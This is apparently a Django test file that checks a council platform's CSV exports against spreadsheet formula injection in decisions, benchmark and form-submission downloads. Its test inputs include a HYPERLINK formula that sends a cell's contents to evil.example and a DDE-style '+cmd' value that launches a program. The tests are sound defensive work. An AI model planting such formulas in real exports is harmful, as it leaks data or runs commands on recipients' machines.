"""CSV formula injection: a value planted by one council (or one resident) never runs as a
formula in the spreadsheet of whoever downloads the CSV. Issue 8, item 5."""

import csv
import io
from datetime import date

import pytest
from django.test import Client
from django_tenants.utils import schema_context

from platform_core import csvio

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+1+2", "'+1+2"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\uff1d1+2", "'\uff1d1+2"),  # full-width equals sign
        ("Close the depot", "Close the depot"),
        ("a=b", "a=b"),
        ("", ""),
        ("-3.5", "-3.5"),  # a plain number stays a number
        ("+44", "+44"),
        ("1e5", "1e5"),
        (-3.5, -3.5),
        (7, 7),
        (None, None),
    ],
)
def test_neutralise_prefixes_formulas_and_leaves_data_alone(cell, written):
    assert csvio.neutralise(cell) == written


def test_writer_and_dict_writer_neutralise_every_cell_and_the_header():
    out = io.StringIO()
    csvio.writer(out, lineterminator="\n").writerow(["ok", PAYLOAD, -2])
    dict_out = io.StringIO()
    writer = csvio.DictWriter(dict_out, fieldnames=["=name", "value"], lineterminator="\n")
    writer.writeheader()
    writer.writerow({"=name": "@x", "value": 1})
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["ok", "'" + PAYLOAD, "-2"]
    assert list(csv.reader(io.StringIO(dict_out.getvalue()))) == [["'=name", "value"], ["'@x", "1"]]


def _cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode())) for cell in row]


def test_decisions_csv_neutralises_a_planted_formula(council_b):
    from records import actions

    with schema_context(council_b.schema_name):
        decision = actions.create_decision(
            "rm",
            title=PAYLOAD,
            decision_maker="@Cabinet",
            decision_date=date(2026, 3, 31),
            reasons="-1+1",
            summary="+cmd|' /C calc'!A0",
        )
        actions.publish_decision("rm", decision)
    cells = _cells(
        Client(HTTP_HOST=council_b.primary_domain).get("/api/v1/records/open/decisions.csv").content
    )
    assert "'" + PAYLOAD in cells
    assert {"'@Cabinet", "'-1+1", "'+cmd|' /C calc'!A0"} <= set(cells)
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)


def test_benchmarks_csv_neutralises_a_metric_title(db, platform_host):
    from rest_framework.test import APIClient

    from intelligence.benchmarking.models import PoolMember, PoolMetric
    from intelligence.benchmarking.seeding import seed_pool

    seed_pool(councils=10, metrics=8, years=2, last_year=2024)
    PoolMetric.objects.filter(metric_id="syn-003").update(title=PAYLOAD, unit="@pct")
    member = PoolMember.objects.order_by("gss_code").first()
    api = APIClient(HTTP_HOST=platform_host)
    response = api.get(f"/api/v1/benchmarks/metrics/syn-003/series/{member.gss_code}/?format=csv")
    assert response.status_code == 200, response.content
    cells = _cells(response.content)
    assert "'" + PAYLOAD in cells and PAYLOAD not in cells


def test_form_submissions_export_neutralises_what_a_resident_typed(council_b, staff_client_factory):
    """Wagtail's own form-submissions CSV export: residents type anything into a form."""
    from wagtail.models import Site

    from cms.models import FormField, FormPage

    with schema_context(council_b.schema_name):
        home = Site.objects.get(is_default_site=True).root_page
        form = FormPage(slug="csv-safety", title="Tell us", to_address="", subject="x")
        form.form_fields = [FormField(label="Your feedback", field_type="multiline")]
        home.add_child(instance=form)
        form.get_submission_class().objects.create(page=form, form_data={"your_feedback": PAYLOAD})
    editor = staff_client_factory(council_b)
    response = editor.get(f"/admin/forms/submissions/{form.pk}/?export=csv")
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    cells = _cells(body)
    assert "'" + PAYLOAD in cells and PAYLOAD not in cells


def test_wagtail_spreadsheet_exports_use_the_platform_writer():
    """If a Wagtail upgrade renames the hook, this fails rather than exports going unescaped."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    assert getattr(SpreadsheetExportMixin.stream_csv, "platform_csvio", False)
